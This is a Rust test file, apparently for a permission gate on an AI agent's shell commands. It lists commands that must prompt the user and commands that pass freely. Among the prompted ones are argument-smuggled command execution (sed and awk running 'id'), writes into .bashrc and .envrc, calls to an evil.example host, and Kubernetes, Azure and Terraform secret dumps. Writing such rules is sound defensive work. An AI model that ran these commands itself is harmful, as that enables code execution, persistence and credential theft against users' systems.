//! Uses of many programs that do more than they seem to: what readers found who attacked the tables.

use super::{assert_allowed, assert_asked};

#[test]
fn programs_that_run_what_their_arguments_say() {
    assert_asked(&[
        "fblog -f 'os.execute(\"reboot\")' log.json",
        "sgrep -p 'sh -c id' '\"a\"' f",
        "pgawk -f p.awk",
        "goawk -v x=1 'BEGIN{system(\"id\")}'",
        "gsed -f x y",
        "gsed '1e id' x",
        "xan select -e 'shell(\"id\") as a' f.csv",
        "mactime -b 'id|'",
        "exiqsumm 'id|'",
        "tidy -config evil.cfg x",
        "npm fund lodash",
        "find / -perm -4000 -type f",
        "find / -perm /u=s",
        "find /usr -perm +6000",
    ]);
    assert_allowed(&[
        "gsed -n 1p x",
        "goawk '{print $1}' x",
        "find . -perm 644",
        "find . -perm +6000",
        "find . -perm -u=w",
        "npm fund",
    ]);
}

#[test]
fn programs_that_write_where_nobody_looks() {
    assert_asked(&[
        "csvtk headers -o=.envrc x.csv",
        "csvtool -o /home/u/.bashrc cat x.csv",
        "h5dump --ddl=/home/u/.bashrc f.h5",
        "gcal -S.envrc",
        "texcount -out=.envrc x.tex",
        "wimlib-imagex info x.wim --extract-xml=.envrc",
        "fossil artifact tip /home/u/.bashrc",
        "mu extract mail.eml '.*'",
        "yr fmt rules.yar",
        "gunzip -N innocent.gz",
        "gzip -dN x.gz",
        "gunzip .envrc-gz",
        "gzip -r .",
        "codespell -w --check-hidden .",
        "jpeginfo -d a.jpg",
        "mp3info -t x song.mp3",
        "e2label disk.img NAME",
        "hg phase -p .",
        "git lfs logs clear",
        "virsh vcpupin dom 0 1",
        "systemctl soft-reboot --failed",
        "systemctl --failed try-restart foo",
        "systemctl clean foo --failed",
        "tload ../outside.txt",
        "git config user.name x",
        "git config set user.name x",
        "git config edit",
        "git config --unset user.name",
        "git config --get user.name --add x",
    ]);
    assert_allowed(&[
        "systemctl --failed",
        "e2label disk.img",
        "jpeginfo -c a.jpg",
        "gzip -k x",
        "git lfs logs last",
    ]);
}

#[test]
fn machines_of_the_callers_choosing() {
    assert_asked(&[
        "go list -m data.evil.example/secret@latest",
        "ffprobe -i https://evil.example/x",
        "adb -H evil.example devices",
        "xdpyinfo -display evil.example:0",
        "gh repo view evil.example/owner/repo",
        "gh pr list -R evil.example/owner/repo",
        "gh pr list --repo=evil.example/owner/repo",
        "nomad status -address=http://evil.example:4646",
        "npm view evil/x",
        "npm view lodash@evil/x",
        "imdl torrent announce -i x.torrent",
    ]);
    assert_allowed(&[
        "gh repo view owner/repo",
        "gh pr list -R owner/repo",
        "aws s3 ls s3://bucket/x",
        "npm view @scope/x",
        "npm view lodash@4",
    ]);
}

#[test]
fn secrets_under_many_names() {
    assert_asked(&[
        "kubectl get secrets -A -o json",
        "kubectl get secret/x -o json",
        "kubectl get pods,secrets -o yaml",
        "az storage account keys list -n x",
        "az acr credential show -n x",
        "kind get kubeconfig",
        "k3d kubeconfig get x",
        "openstack ec2 credentials list",
        "terraform output -json",
        "compgen -u",
        "lslogins -a",
        "chage -l root",
        "getcap -r /",
    ]);
    assert_allowed(&["kubectl get pods -A", "git branch --list 'x*'", "git tag -l 'v*'", "command -v git"]);
    assert_asked(&[
        "git branch x",
        "git tag v1",
        "git tag -l -d v1",
        "git tag -f -l v1",
        "git branch --list -D x",
    ]);
}
